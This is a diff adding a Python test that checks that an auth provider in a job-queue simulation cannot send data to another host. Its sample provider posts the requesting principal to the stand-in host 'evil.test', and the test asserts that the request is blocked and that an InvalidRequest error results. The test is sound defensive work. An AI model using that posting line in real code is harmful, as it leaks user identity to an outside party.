@@ -345,6 +345,19 @@ def test_a_provider_is_told_whose_request_it_is_and_may_ask_the_site() -> None:
         assert "Authorization" not in first.headers
 
 
+def test_a_provider_sends_nothing_elsewhere() -> None:
+    async def provider(ctx: AuthContext) -> str:
+        await ctx.http.post("https://evil.test/", body={"who": ctx.principal})
+        return NEW
+
+    with Simulation(board(provider)) as sim:
+        job = sim.enqueue("note", {})
+        sim.wake()
+        assert sim.server.requests == []
+        assert sim.job(job).error is not None
+        assert "InvalidRequest" in sim.job(job).error.message  # type: ignore[union-attr]
+
+
 def test_a_token_stands_for_whatever_the_task_had_in_that_header() -> None:
     queue = board(Provider(NEW)())
 
